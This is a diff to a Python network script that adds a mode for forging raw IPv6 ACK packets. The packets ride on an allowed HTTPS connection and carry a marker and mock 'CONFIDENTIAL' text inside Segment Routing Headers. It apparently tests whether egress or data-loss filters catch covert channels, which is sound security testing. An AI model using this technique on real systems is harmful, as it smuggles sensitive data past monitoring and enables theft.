@@ -92,10 +92,53 @@ def tls_optack(s4, d4, mark, count):
     time.sleep(0.5)
     c.close()
 
+def tls6_srh(s6, d6, mark, count):
+    """A real HTTPS connection over IPv6 (allowed as encrypted), then bare
+    ACKs at its sequence numbers, each after a Segment Routing Header with
+    segments left 0 whose 'segments' are the marker and text."""
+    import ssl
+    sn = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003))
+    sn.bind(("eth0", 0)); sn.setblocking(False)
+    ctx = ssl.create_default_context(); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE
+    t = socket.socket(socket.AF_INET6); t.bind((s6, 41201)); t.connect((d6, 443))
+    c = ctx.wrap_socket(t)
+    c.sendall(b"GET /bytes/100 HTTP/1.1\r\nHost: x\r\n\r\n")
+    c.settimeout(2)
+    try: c.recv(4000)
+    except Exception: pass
+    time.sleep(3)
+    seq = ack = None
+    S6, D6 = socket.inet_pton(socket.AF_INET6, s6), socket.inet_pton(socket.AF_INET6, d6)
+    while True:
+        try: f = sn.recv(70000)
+        except BlockingIOError: break
+        if f[12:14] != b"\x86\xdd" or f[20] != 6: continue
+        ip = f[14:]; tcp = ip[40:]
+        if ip[8:24] == S6 and struct.unpack("!H", tcp[0:2])[0] == 41201:
+            tl = struct.unpack("!H", ip[4:6])[0] - (tcp[12] >> 4) * 4
+            seq = (struct.unpack("!I", tcp[4:8])[0] + tl + (1 if tcp[13] & 3 else 0)) & 0xffffffff
+            ack = struct.unpack("!I", tcp[8:12])[0]
+    print("seq", seq, "ack", ack, flush=True)
+    r6 = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW)
+    text = (mark + " CONFIDENTIAL rotor blade alloy spec rev 7 ").encode() * 30
+    for i in range(int(count)):
+        tcp = struct.pack("!HHIIBBHHH", 41201, 443, seq, ack, 5 << 4, 0x10, 64240, 0, 0)
+        ph = S6 + D6 + struct.pack("!IxxxB", len(tcp), 6)
+        tcp = tcp[:16] + struct.pack("!H", csum(ph + tcp)) + tcp[18:]
+        segs = text[:1024]
+        srh = bytes([6, (8 + len(segs)) // 8 - 1, 4, 0, len(segs) // 16 - 1, 0, 0, 0]) + segs
+        ip = struct.pack("!IHBB", 0x60000000, len(srh) + len(tcp), 43, 64) + S6 + D6
+        r6.sendto(ip + srh + tcp, (d6, 0))
+        time.sleep(0.05)
+    time.sleep(0.5)
+    c.close()
+
 def main():
     if sys.argv[1] == "wg-server":
         return wg_server(int(sys.argv[2]))
     kind, s4, d4, s6, d6, mark, count = sys.argv[1:8]
+    if kind == "tls6-srh":
+        return tls6_srh(s6, d6, mark, count)
     if kind == "tls-optack":
         return tls_optack(s4, d4, mark, count)
     if kind == "wg-surplus":
